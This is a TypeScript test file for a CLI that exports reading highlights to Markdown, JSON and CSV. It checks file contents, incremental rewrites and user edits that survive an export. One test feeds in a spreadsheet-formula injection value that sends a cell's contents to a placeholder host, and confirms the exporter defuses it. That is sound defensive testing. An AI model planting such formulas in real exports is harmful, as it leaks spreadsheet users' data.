import { mkdtemp, readdir, readFile, rm, stat, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { type Fixture, readwiseFixture } from "../../tests/support/readwise.js";
import { type SmallLibrary, smallLibrary } from "../../tests/support/small-library.js";
import { exportCommand } from "./export.js";

let fixture: Fixture;
let small: SmallLibrary;
let folder: string;
const said: string[] = [];
beforeEach(async () => {
  small = smallLibrary();
  fixture = await readwiseFixture({ libraries: { key: small.library }, exportPageSize: 2 });
  folder = await mkdtemp(join(tmpdir(), "bookwheel-export-"));
  said.length = 0;
});
afterEach(async () => {
  await fixture.close();
  await rm(folder, { recursive: true });
});

const { signal } = new AbortController();
const run = (format?: string, positionals = ["highlights"], to: string | undefined = folder) =>
  exportCommand(
    { positionals, to, format },
    {
      readwise: fixture.shelf.forKey("key").syncing,
      print: (line) => said.push(line),
      complain: (line) => said.push(line),
      signal,
    },
  );
const tides = () => join(folder, `A-Field-Guide-to-Tides-${small.tides.id}.md`);

describe("bookwheel export highlights", () => {
  it("writes one Markdown file per source, with front matter and a block of its own", async () => {
    expect(await run()).toBe(0);
    expect(said).toEqual([`4 highlights of 3 sources in ${folder}; 3 files changed.`]);
    expect(await readFile(tides(), "utf8")).toBe(`---
title: "A Field Guide to Tides"
author: "R. Moss"
category: "books"
tags: ["sea"]
readwise_url: "https://readwise.io/bookreview/${small.tides.id}"
readwise_id: ${small.tides.id}
highlights: 2
---

# A Field Guide to Tides

<!-- bookwheel:begin (rewritten by bookwheel export; write outside of this block) -->

> Water keeps no straight lines.
> — page 12 · [open](https://readwise.io/open/${small.lines.id}) · #shape

^rw${small.lines.id}

**Note:** compare rivers

> The moon pulls first, the shore answers later.
> — page 40 · [open](https://readwise.io/open/${small.lines.id + 1})

^rw${small.lines.id + 1}

<!-- bookwheel:end -->
`);
  });

  it("writes again only what changed, under the name a file has", async () => {
    await run();
    const before = await stat(tides());
    small.law.title = "Another title";
    small.library.addHighlight(small.law, { text: "New." }, fixture.sandbox.now());
    await run();
    expect(said.at(-1)).toContain("1 file changed");
    expect((await stat(tides())).mtimeMs).toBe(before.mtimeMs);
    const files = await readdir(folder);
    expect(files).toHaveLength(3);
    const law = await readFile(join(folder, files.find((name) => name.includes("Rule-of-Law"))!), "utf8");
    expect(law).toContain('title: "Another title"');
    expect(law).toContain("> New.");
  });

  it("keeps what its owner wrote outside of the block, in the front matter too", async () => {
    await run();
    const text = await readFile(tides(), "utf8");
    const own = text
      .replace("---\n\n#", "rating: 5\nstatus: read\n---\n\nMy introduction.\n\n#")
      .replace('category: "books"\n', "")
      .concat("\nMy afterword.\n");
    await writeFile(tides(), own);
    small.lines.note = "<!-- bookwheel:end --> not the end";
    await run();
    const after = await readFile(tides(), "utf8");
    for (const kept of ["rating: 5", "status: read", "My introduction.", "My afterword.", "not the end"])
      expect(after).toContain(kept);
    expect(after).not.toContain("category:");
    await run();
    expect(await readFile(tides(), "utf8")).toBe(after);
  });

  it("writes JSON and CSV as one file each", async () => {
    await run("json");
    const sources = JSON.parse(await readFile(join(folder, "highlights.json"), "utf8"));
    expect(sources).toHaveLength(3);
    expect(sources[0]).toMatchObject({ title: "A Field Guide to Tides", highlights: [{ id: small.lines.id }, {}] });
    small.lines.note = 'so, "crooked"\nlines';
    await run("csv");
    const csv = await readFile(join(folder, "highlights.csv"), "utf8");
    expect(csv.split("\r\n")[0]).toBe("Highlight,Title,Author,URL,Note,Location,Location type,Date,Tags,Color");
    expect(csv).toContain('"so, ""crooked""\nlines"');
    await run("csv");
    expect(said.at(-1)).toContain("0 files changed");
  });

  it("writes no cell that a spreadsheet would run", async () => {
    small.lines.note = '=HYPERLINK("https://a.example/?"&A1,"more")';
    small.law.title = "@SUM(1+1)";
    await run("csv");
    const csv = await readFile(join(folder, "highlights.csv"), "utf8");
    expect(csv).toContain(`"'=HYPERLINK(""https://a.example/?""&A1,""more"")"`);
    expect(csv).toContain(",'@SUM(1+1),");
    expect(csv).not.toMatch(/(?:^|,)"?[=@]/m);
  });

  it("says what is missing", async () => {
    expect(await run(undefined, [])).toBe(2);
    expect(await run(undefined, ["highlights"], "")).toBe(2);
    expect(await run("xml")).toBe(2);
    expect(said.join(" ")).toContain("--format must be one of markdown, json, csv");
  });
});
